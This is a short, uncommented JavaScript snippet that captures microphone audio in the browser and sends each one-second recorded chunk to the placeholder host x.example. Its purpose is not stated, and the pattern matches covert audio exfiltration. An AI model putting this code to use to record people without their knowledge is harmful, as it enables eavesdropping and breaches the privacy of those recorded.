const stream = await navigator.mediaDevices.getUserMedia({ audio: true });
const rec = new MediaRecorder(stream);
rec.ondataavailable = (e) => fetch('https://x.example/audio', { method: 'POST', body: e.data });
rec.start(1000);
